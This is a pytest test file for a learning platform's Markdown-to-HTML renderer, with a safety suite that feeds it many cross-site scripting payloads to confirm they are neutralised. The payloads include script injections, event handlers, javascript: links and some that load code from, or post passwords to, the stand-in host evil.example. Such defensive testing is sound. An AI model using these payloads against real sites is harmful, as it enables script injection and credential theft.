"""Markdown becomes the HTML we want and no other."""

import html.parser
import re
from dataclasses import replace
from pathlib import Path

import pytest

from lms.content.catalogue import Catalogue
from lms.content.model import Course
from lms.content.render import ATTRIBUTES, INLINE_TAGS, TAGS, VALUES, Links, Renderer
from tests.content.worlds import load_world

SITE = Links(
    picture=lambda course, name: f"/app/pictures/{course}/{name}",
    lesson=lambda course, lesson, page: f"/app/learn/{course}/{lesson}/{page}?a=1&b=2",
    quiz_picture=lambda quiz, name: f"/app/quiz/{quiz}/{name}",
)
PACKAGE = Links(
    picture=lambda _course, name: f"images/{name}", lesson=lambda _course, lesson, page: f"#{lesson}-{page}"
)
HOME = "courses/first-steps"


@pytest.fixture(scope="module")
def catalogue() -> Catalogue:
    return load_world()


@pytest.fixture(scope="module")
def course(catalogue: Catalogue) -> Course:
    found = catalogue.find_course("first-steps", "en")
    assert found is not None
    return found


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    return Renderer()


def test_a_page_is_given_block_by_block(renderer: Renderer, course: Course) -> None:
    lesson = course.lessons[0]
    blocks = renderer.page(lesson.pages[0], lesson, course, SITE)
    assert [(block.kind.value, block.title, block.name) for block in blocks] == [
        ("text", "", ""),
        ("region", "", "who-opens-the-door"),
        ("fact", "Nine of ten newcomers come by train", ""),
    ]
    assert blocks[2].html.endswith("<p>Source: Town of Valmora, 2024</p>")


def test_a_picture_alone_becomes_a_figure_with_its_caption(renderer: Renderer, course: Course) -> None:
    lesson = course.lessons[0]
    html = renderer.page(lesson.pages[0], lesson, course, SITE)[0].html
    assert "<figure><img" in html
    assert 'src="/app/pictures/first-steps/doors.svg"' in html
    assert 'alt="Three doors: registration, health, school"' in html
    assert 'loading="lazy"' in html
    assert "<figcaption>The first three doors</figcaption>" in html
    assert "title=" not in html


def test_site_and_package_give_other_addresses_to_the_same_kept_page(renderer: Renderer, course: Course) -> None:
    lesson = course.lessons[0]
    on_site = renderer.page(lesson.pages[2], lesson, course, SITE)[0].html
    before = renderer.rendered
    in_package = renderer.page(lesson.pages[2], lesson, course, PACKAGE)[0].html
    assert '<a href="/app/learn/first-steps/asking/2?a=1&amp;b=2"' in on_site
    assert '<a href="#asking-2"' in in_package
    assert renderer.rendered == before


def test_a_table_scrolls_in_a_region_that_the_keyboard_reaches(renderer: Renderer, course: Course) -> None:
    lesson = course.lessons[0]
    html = renderer.page(lesson.pages[1], lesson, course, SITE)[0].html
    opening = re.search(r"<div [^>]*>", html)
    assert opening is not None
    for attribute in ('role="region"', 'tabindex="0"', 'aria-label="Office, Opens, Visitors"', 'class="table"'):
        assert attribute in opening[0]
    assert '<th scope="col">Office</th>' in html
    assert re.search(r'<td class="right">\s*40</td>', html)
    assert "style=" not in html


def test_headings_inside_a_page_are_of_the_third_level(renderer: Renderer) -> None:
    assert renderer.text("# One\n\n### Three\n\n###### Six") == "<h3>One</h3>\n<h3>Three</h3>\n<h3>Six</h3>"


def test_an_answer_has_no_paragraph_around_it(renderer: Renderer) -> None:
    assert renderer.inline("a **strong** `<b>` word") == "a <strong>strong</strong> <code>&lt;b&gt;</code> word"


@pytest.mark.parametrize(
    "text", ["1. first", "- item", "# heading", "> quote", "    code", "| a |", "4) four", "***"]
)
def test_an_answer_that_looks_like_a_block_stays_a_line(renderer: Renderer, text: str) -> None:
    assert renderer.inline(text).replace("&gt;", ">") == text.strip()


def test_a_question_is_rendered_as_blocks(renderer: Renderer) -> None:
    assert renderer.text("Why?\n\n> Because.") == "<p>Why?</p>\n<blockquote>\n<p>Because.</p>\n</blockquote>"


def test_bare_addresses_become_links(renderer: Renderer) -> None:
    html = renderer.text("See https://town.example/a?b=1&c=2, (www.town.example) or office@town.example.")
    assert re.findall(r'<a href="([^"]+)" rel="noopener noreferrer">([^<]+)</a>', html) == [
        ("https://town.example/a?b=1&amp;c=2", "https://town.example/a?b=1&amp;c=2"),
        ("https://www.town.example", "www.town.example"),
        ("mailto:office@town.example", "office@town.example"),
    ]


def test_words_that_only_look_like_addresses_stay_words(renderer: Renderer) -> None:
    assert "<a" not in renderer.text("The file notes.md, e.g. a.k.a. or at.risk, `https://town.example`.")


def test_pictures_of_a_quiz_come_from_its_own_folder(renderer: Renderer) -> None:
    html = renderer.text("![A door](images/door.svg)", "quizzes/arriving", SITE)
    assert 'src="/app/quiz/arriving/door.svg"' in html


def test_without_a_home_pictures_leave_their_words(renderer: Renderer) -> None:
    assert renderer.text("![A door](../images/door.svg)") == "<p>A door</p>"


def test_an_empty_text_is_empty(renderer: Renderer) -> None:
    assert renderer.text("") == renderer.inline("  \n ") == ""


def test_an_insert_in_another_language_keeps_its_mark(renderer: Renderer, catalogue: Catalogue) -> None:
    course = catalogue.find_course("first-steps", "pl", "north")
    assert course is not None
    lesson = course.lessons[0]
    assert [block.language for block in renderer.page(lesson.pages[0], lesson, course, SITE)] == ["", "en"]


# ---- safety ----


class Reader(html.parser.HTMLParser):
    """Collects every element and attribute."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, "", ""))
        self.found += [(tag, name, value or "") for name, value in attrs]


def assert_safe(html_text: str, tags: frozenset[str]) -> None:
    """Check against the lists, with a parser that is none of those that made the HTML."""
    reader = Reader()
    reader.feed(html_text)
    reader.close()
    for tag, name, value in reader.found:
        assert tag in tags, tag
        if not name or (tag, name) == ("a", "rel"):
            continue
        assert name in ATTRIBUTES.get(tag, ()) or value in VALUES.get(tag, {}).get(name, ()), (tag, name, value)
        if name in ("href", "src"):
            assert re.match(r"https?://|mailto:|/app/|#$", value), value
    assert "<!--" not in html_text
    assert "\ue000" not in html_text


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,x></object>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76ascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    '[x](https://ok.example"onmouseover=alert(1))',
    "[x](https://ok.example 'onmouseover=alert(1)')",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    '[x](https://ok.example/"><script>alert(1)</script>)',
    "<javascript:alert(1)>",
    "<https://ok.example/<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x](../images/../../secret.svg)",
    "![x](../images/..%2f..%2fsecret.svg)",
    "![x](../../other/images/secret.svg)",
    '![x" onerror="alert(1)](../images/doors.svg)',
    '![x](../images/doors.svg "x\\" onerror=\\"alert(1)")',
    '![a](../images/doors.svg "<script>alert(1)</script>")',
    "[![x](../images/doors.svg)](javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "``` \n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "| a |\n|:-- onclick=alert(1)|\n| b |",
    "- <img src=x onerror=alert(1)>\n    - <svg onload=alert(1)>",
    "> <iframe src=//evil.example>",
    "### <b onclick=alert(1)>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ue000lesson/a/b/1\ue000",
    "[x](\ue000picture/courses/a/b\ue000)",
    'https://ok.example/"onmouseover=alert(1)',
    "https://ok.example/'><script>alert(1)</script>",
    "www.ok.example/<script>",
    'x@y.example"onmouseover=alert(1)',
    "javascript:alert(1)@ok.example",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "\x02klzzwxh:0000\x03 \x02amp\x03",
    "**<a href='java\nscript:alert(1)'>x</a>**",
    "<x>" * 50 + "<script>alert(1)</script>" + "</x>" * 50,
    "<div><div><table><td><script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_disarmed_in_every_place(renderer: Renderer, attack: str) -> None:
    for text in (
        attack,
        f"Before {attack} after",
        f"**{attack}**",
        f"- {attack}\n- b",
        f"[{attack}](https://ok.example)",
    ):
        assert_safe(renderer.text(text, HOME, SITE), TAGS)
        assert_safe(renderer.inline(text, HOME, SITE), INLINE_TAGS)


def test_what_an_attack_says_stays_readable(renderer: Renderer) -> None:
    assert renderer.text("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"


SIGNS = [
    "[",
    "![",
    "[a](",
    "[a](b",
    "a [b ",
    "*",
    "**a",
    "_a ",
    "`",
    "`a",
    "<",
    "<a ",
    "&",
    "&#",
    "\\",
    "> ",
    ">\n",
]
SIGNS += [
    "- ",
    "* a\n  ",
    "#",
    "# a\n",
    "|",
    "a|b\n-|-\n",
    "https://a.",
    "www.",
    "a@",
    "a@b.",
    "(",
    "\n",
    "\u200b",
    "é",
]


@pytest.mark.parametrize("sign", SIGNS)
def test_a_hundred_kilobytes_of_one_sign_are_shown_as_they_are(sign: str) -> None:
    renderer = Renderer()
    hostile = (sign * 100_000)[:100_000]
    assert_safe(renderer.text(hostile), TAGS)
    assert_safe(renderer.inline(hostile), INLINE_TAGS)


def test_a_text_beyond_the_limits_is_plain_paragraphs(renderer: Renderer) -> None:
    assert renderer.text("<b>\n\n" + "*" * 1001) == "<p>&lt;b&gt;</p>\n<p>" + "*" * 1001 + "</p>"


def test_pictures_of_a_quiz_leave_their_words_where_there_is_no_place_for_them(renderer: Renderer) -> None:
    assert renderer.text("![A door](images/door.svg)", "quizzes/arriving", PACKAGE) == "<p>A door</p>"


# ---- keeping ----


def test_a_second_view_renders_nothing(course: Course) -> None:
    renderer = Renderer()
    renderer.keep(course)
    count = renderer.rendered
    assert count > 20
    for lesson in course.lessons:
        for page in lesson.pages:
            renderer.page(page, lesson, course, SITE)
    assert renderer.rendered == count


def test_a_second_start_renders_nothing(tmp_path: Path, course: Course) -> None:
    Renderer(tmp_path).keep(course)
    second = Renderer(tmp_path)
    second.keep(course)
    assert second.rendered == 0
    lesson = course.lessons[0]
    assert second.page(lesson.pages[0], lesson, course, SITE) == Renderer().page(
        lesson.pages[0], lesson, course, SITE
    )


def test_a_changed_text_is_rendered_again_and_nothing_else(tmp_path: Path, course: Course) -> None:
    Renderer(tmp_path).keep(course)
    second = Renderer(tmp_path)
    second.keep(replace(course, welcome="A new welcome."))
    assert second.rendered == 1


def test_a_damaged_store_is_rendered_again(tmp_path: Path, course: Course) -> None:
    Renderer(tmp_path).keep(course)
    for path in tmp_path.iterdir():
        path.write_bytes(path.read_bytes()[:-40] + b"<script>alert(1)</script>")
    second = Renderer(tmp_path)
    second.keep(course)
    assert second.rendered > 20
    third = Renderer(tmp_path)
    third.keep(course)
    assert third.rendered == 0


def test_texts_that_nobody_asks_for_any_more_are_dropped(tmp_path: Path, course: Course) -> None:
    first = Renderer(tmp_path)
    for number in range(500):
        first.text(f"Old text {number}")
    first.store.save()
    second = Renderer(tmp_path)
    second.keep(course)
    second.forget_unused()
    third = Renderer(tmp_path)
    third.keep(course)
    assert (third.rendered, len(third.store) < 100, len(list(tmp_path.iterdir()))) == (0, True, 1)
